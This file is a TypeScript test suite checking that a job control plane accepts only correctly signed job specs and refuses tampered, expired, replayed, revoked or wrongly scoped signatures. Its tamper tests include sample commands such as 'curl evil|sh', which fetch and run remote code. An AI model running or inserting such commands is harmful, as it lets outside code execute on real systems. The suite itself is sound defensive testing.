import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { generateKeyPairSync, randomBytes, sign } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { startControlPlane } from '../../src/control-plane.js';
import { createLogger } from '../../src/log.js';
import { ed25519Message, PAYLOAD_TYPE, payloadBytes } from '../../src/signing/envelope.js';
import { parsePublicKey } from '../../src/signing/public-key.js';
import { runCli } from './helpers.js';
import { call, SERVER_DEFAULTS, startTestServer, type TestServer } from './server-helpers.js';

/**
 * Signed jobs end to end, with real `ssh-keygen` keys and signatures: a key registered for a
 * project signs, the server runs exactly the bytes it verified, and each way a signed request
 * can be wrong is refused with its own code — a changed payload, an unknown or revoked key, a
 * key of another project, another namespace, a replayed nonce (also after a restart), an
 * expired or future-dated envelope.
 */

const spec = { version: 1, project: 'signed', command: ['echo', 'signed and sealed'] };

describe('signed jobs', () => {
  let server: TestServer;
  let dir: string;
  let env: NodeJS.ProcessEnv;
  const sshKey = (name: string, type = 'ed25519'): string => {
    const path = join(dir, name);
    execFileSync('ssh-keygen', ['-q', '-t', type, '-N', '', '-C', name, '-f', path]);
    return path;
  };
  const pem = generateKeyPairSync('ed25519');
  const pemPublic = pem.publicKey.export({ type: 'spki', format: 'pem' }).toString();

  before(async () => {
    server = await startTestServer();
    dir = await mkdtemp(join(tmpdir(), 'airlock-signing-'));
    env = { AIRLOCK_URL: server.url, AIRLOCK_TOKEN: server.admin, HOME: dir };
    await writeFile(join(dir, 'spec.json'), JSON.stringify(spec));
  });
  after(async () => {
    await server.close();
    await rm(dir, { recursive: true, force: true });
  });

  const submitSigned = (body: unknown) => server.call('POST', '/v1/jobs/signed', server.admin, body);

  /** A signed job made here with the PEM key: any times, any payload. */
  const pemSigned = (
    fields: Partial<{ issuedAt: string; expiresAt: string; nonce: string; spec: unknown }> = {},
  ) => {
    const now = Date.now();
    const payload = {
      type: PAYLOAD_TYPE,
      spec,
      nonce: randomBytes(18).toString('base64url'),
      issuedAt: new Date(now).toISOString(),
      expiresAt: new Date(now + 600_000).toISOString(),
      ...fields,
    } as Parameters<typeof payloadBytes>[0];
    const bytes = payloadBytes(payload);
    return {
      payload: bytes.toString('base64'),
      signature: {
        format: 'ed25519',
        key: parsePublicKey(pemPublic).fingerprint,
        value: sign(null, ed25519Message(bytes), pem.privateKey).toString('base64'),
      },
    };
  };

  test('keys are registered per project by an admin, listed with their fingerprints', async () => {
    const key = sshKey('alice');
    const fingerprint = execFileSync('ssh-keygen', ['-l', '-E', 'sha256', '-f', `${key}.pub`], {
      encoding: 'utf8',
    }).split(' ')[1];
    const added = await runCli(
      ['keys', 'add', '--project', 'signed', '--owner', 'alice', `${key}.pub`, '--json'],
      env,
    );
    assert.equal(added.code, 0, added.stderr);
    assert.equal(JSON.parse(added.stdout).fingerprint, fingerprint);
    const pemAdded = await server.call('POST', '/v1/keys', server.admin, {
      project: 'signed',
      owner: 'bot',
      publicKey: pemPublic,
      release: true,
    });
    assert.equal(pemAdded.status, 201, JSON.stringify(pemAdded.body));
    const again = await server.call('POST', '/v1/keys', server.admin, {
      project: 'signed',
      owner: 'bot',
      publicKey: pemPublic,
    });
    assert.equal(again.status, 400);
    const submitter = (
      await server.call('POST', '/v1/tokens', server.admin, {
        principal: 'dev',
        role: 'submitter',
        projects: ['signed'],
      })
    ).body.secret;
    assert.equal(
      (
        await server.call('POST', '/v1/keys', submitter, {
          project: 'signed',
          owner: 'x',
          publicKey: pemPublic,
        })
      ).status,
      403,
    );
    const listed = (await server.call('GET', '/v1/keys?project=signed', submitter)).body.keys;
    assert.equal(listed.length, 2);
    await writeFile(join(dir, 'alice.path'), key);
  });

  test('a job signed with ssh-keygen runs exactly the signed spec; the audit names the key', async () => {
    const key = (await readFile(join(dir, 'alice.path'), 'utf8')).trim();
    const signed = await runCli(
      ['sign', join(dir, 'spec.json'), '--key', key, '-o', join(dir, 'signed.json')],
      env,
    );
    assert.equal(signed.code, 0, signed.stderr);
    const envelope = JSON.parse(await readFile(join(dir, 'signed.json'), 'utf8'));
    assert.match(envelope.signature.value, /^-----BEGIN SSH SIGNATURE-----/);
    const submitted = await runCli(['submit', join(dir, 'signed.json'), '--json'], env);
    assert.equal(submitted.code, 0, submitted.stderr);
    const job = JSON.parse(submitted.stdout);
    const signedSpec = JSON.parse(Buffer.from(envelope.payload, 'base64').toString('utf8')).spec;
    assert.deepEqual(job.spec, signedSpec);
    const events = (await server.call('GET', '/v1/audit/events?last=5', server.admin)).body.events;
    const event = events.find(
      (e: { action: string; target: string }) => e.action === 'job.submit' && e.target === `job:${job.id}`,
    );
    assert.equal(event.details.signature.owner, 'alice');
    assert.match(event.details.signature.fingerprint, /^SHA256:/);
    // Unsigned jobs say so.
    const plain = (await server.call('POST', '/v1/jobs', server.admin, spec)).body;
    const plainEvent = (await server.call('GET', '/v1/audit/events?last=3', server.admin)).body.events.find(
      (e: { target: string }) => e.target === `job:${plain.id}`,
    );
    assert.equal(plainEvent.details.signature, null);
  });

  test('a replayed signed job is refused, also after a restart', async () => {
    const envelope = JSON.parse(await readFile(join(dir, 'signed.json'), 'utf8'));
    const replay = await submitSigned(envelope);
    assert.equal(replay.status, 409);
    assert.equal(replay.body.error.code, 'SIGNATURE_REPLAYED');
    await server.plane.close();
    const config = { ...SERVER_DEFAULTS, dataDir: server.dataDir };
    const restarted = await startControlPlane({
      config,
      logger: createLogger('silent', 'test'),
      version: 'test',
    });
    try {
      const again = await call(restarted.url, 'POST', '/v1/jobs/signed', server.admin, envelope);
      assert.equal(again.status, 409);
      assert.equal(again.body.error.code, 'SIGNATURE_REPLAYED');
      // A fresh signature of the same spec is a new request.
      const fresh = await call(restarted.url, 'POST', '/v1/jobs/signed', server.admin, pemSigned());
      assert.equal(fresh.status, 201, JSON.stringify(fresh.body));
    } finally {
      await restarted.close();
    }
    server = { ...server, ...(await startTestServerOn(server)) };
  });

  test('each wrong signed job is refused with its own code', async () => {
    const expect = async (body: unknown, status: number, code: string) => {
      const answer = await submitSigned(body);
      assert.equal(answer.status, status, JSON.stringify(answer.body));
      assert.equal(answer.body.error.code, code);
    };
    // A changed payload: the command swapped after signing.
    const good = pemSigned();
    const changed = JSON.parse(Buffer.from(good.payload, 'base64').toString('utf8'));
    changed.spec.command = ['sh', '-c', 'curl evil'];
    await expect({ ...good, payload: payloadBytes(changed).toString('base64') }, 403, 'SIGNATURE_INVALID');
    // Expired, and future-dated beyond the skew allowance.
    const hour = 3_600_000;
    await expect(
      pemSigned({
        issuedAt: new Date(Date.now() - 2 * hour).toISOString(),
        expiresAt: new Date(Date.now() - hour).toISOString(),
      }),
      403,
      'SIGNATURE_EXPIRED',
    );
    await expect(
      pemSigned({
        issuedAt: new Date(Date.now() + hour).toISOString(),
        expiresAt: new Date(Date.now() + 2 * hour).toISOString(),
      }),
      403,
      'SIGNATURE_NOT_YET_VALID',
    );
    // A key nobody registered; a key of another project.
    const stranger = sshKey('stranger');
    const signedByStranger = await runCli(['sign', join(dir, 'spec.json'), '--key', stranger], env);
    await expect(JSON.parse(signedByStranger.stdout), 403, 'SIGNATURE_KEY_UNKNOWN');
    await writeFile(join(dir, 'other.json'), JSON.stringify({ ...spec, project: 'other' }));
    const key = (await readFile(join(dir, 'alice.path'), 'utf8')).trim();
    const otherProject = await runCli(['sign', join(dir, 'other.json'), '--key', key], env);
    await expect(JSON.parse(otherProject.stdout), 403, 'SIGNATURE_KEY_UNKNOWN');
    // Another namespace: a signature made for something else is not a job signature.
    const payload = Buffer.from(pemSigned().payload, 'base64');
    const file = join(dir, 'payload.bin');
    await writeFile(file, payload);
    execFileSync('ssh-keygen', ['-q', '-Y', 'sign', '-n', 'git', '-f', key, file]);
    await expect(
      {
        payload: payload.toString('base64'),
        signature: { format: 'sshsig', value: await readFile(`${file}.sig`, 'utf8') },
      },
      403,
      'SIGNATURE_INVALID',
    );
    // A payload not in canonical form.
    const loose = Buffer.from(` ${Buffer.from(good.payload, 'base64').toString('utf8')}`);
    await expect(
      {
        payload: loose.toString('base64'),
        signature: { ...good.signature, value: sign(null, loose, pem.privateKey).toString('base64') },
      },
      400,
      'INVALID_REQUEST',
    );
    // A raw Ed25519 signature of the bare payload (no context): a signature made for anything
    // else by the same key cannot pass as a job signature.
    const bare = Buffer.from(good.payload, 'base64');
    await expect(
      {
        ...pemSigned(),
        payload: good.payload,
        signature: { ...good.signature, value: sign(null, bare, pem.privateKey).toString('base64') },
      },
      403,
      'SIGNATURE_INVALID',
    );
    // What the body parser refuses, the payload parser refuses too: a lone surrogate, bad
    // UTF-8, a reserved key — so what runs cannot differ from the signed bytes.
    const raw = (text: string | Buffer) => {
      const bytes = Buffer.isBuffer(text) ? text : Buffer.from(text);
      return {
        payload: bytes.toString('base64'),
        signature: {
          ...good.signature,
          value: sign(null, ed25519Message(bytes), pem.privateKey).toString('base64'),
        },
      };
    };
    const body = Buffer.from(good.payload, 'base64').toString('utf8');
    await expect(raw(body.replace('signed and sealed', '\\ud800')), 400, 'INVALID_REQUEST');
    await expect(
      raw(
        Buffer.concat([Buffer.from(body.replace('signed and sealed', '')), Buffer.from([0xf0, 0x90, 0x80])]),
      ),
      400,
      'INVALID_REQUEST',
    );
    const withEnv = JSON.parse(body);
    withEnv.spec.env = { ['__proto__']: 'P' };
    await expect(
      raw(JSON.stringify(withEnv).replace('"env":{}', '"env":{"__proto__":"P"}')),
      400,
      'INVALID_REQUEST',
    );
    // A token of another project learns nothing of this project's keys.
    const outsider = (
      await server.call('POST', '/v1/tokens', server.admin, {
        principal: 'outsider',
        role: 'submitter',
        projects: ['elsewhere'],
      })
    ).body.secret;
    const probe = await server.call('POST', '/v1/jobs/signed', outsider, pemSigned());
    assert.equal(probe.status, 403);
    assert.equal(probe.body.error.code, 'FORBIDDEN');
    // An Idempotency-Key of an unsigned submit does not hand its job to a signed one.
    assert.equal(
      (await server.call('POST', '/v1/jobs', server.admin, spec, { 'idempotency-key': 'k-signed-1' })).status,
      201,
    );
    const reuse = await server.call('POST', '/v1/jobs/signed', server.admin, pemSigned(), {
      'idempotency-key': 'k-signed-1',
    });
    assert.equal(reuse.status, 409);
    assert.equal(reuse.body.error.code, 'IDEMPOTENCY_KEY_REUSED');
    // A spec file with a key twice is not signed (the last one would be, silently).
    await writeFile(
      join(dir, 'twice.json'),
      '{"version":1,"project":"signed","command":["echo","reviewed"],"command":["sh","-c","curl evil|sh"]}',
    );
    const twice = await runCli(['sign', join(dir, 'twice.json'), '--key', key], env);
    assert.equal(twice.code, 125);
    assert.match(twice.stderr, /"command" twice/);
    // A revoked key.
    const keys = (await server.call('GET', '/v1/keys?project=signed', server.admin)).body.keys;
    const bot = keys.find((k: { owner: string }) => k.owner === 'bot');
    assert.equal((await server.call('POST', `/v1/keys/${bot.id}/revoke`, server.admin)).status, 200);
    await expect(pemSigned(), 403, 'SIGNATURE_KEY_REVOKED');
    // Every refusal is in the audit log.
    const refusals = (await server.call('GET', '/v1/audit/events?last=30', server.admin)).body.events.filter(
      (e: { action: string; outcome: string }) => e.action === 'job.submit' && e.outcome === 'denied',
    );
    for (const code of [
      'SIGNATURE_INVALID',
      'SIGNATURE_EXPIRED',
      'SIGNATURE_KEY_UNKNOWN',
      'SIGNATURE_KEY_REVOKED',
    ])
      assert.ok(
        refusals.some((e: { reason: string }) => e.reason.startsWith(code)),
        code,
      );
  });
});

/** The suite's server again on the same data directory (after the restart test closed it). */
async function startTestServerOn(
  server: TestServer,
): Promise<Pick<TestServer, 'plane' | 'url' | 'call' | 'close'>> {
  const config = { ...SERVER_DEFAULTS, dataDir: server.dataDir };
  const plane = await startControlPlane({ config, logger: createLogger('silent', 'test'), version: 'test' });
  return {
    plane,
    url: plane.url,
    call: (method, path, token, body, headers = {}) => call(plane.url, method, path, token, body, headers),
    close: async () => {
      await plane.close().catch(() => undefined);
      await rm(server.dataDir, { recursive: true, force: true });
    },
  };
}
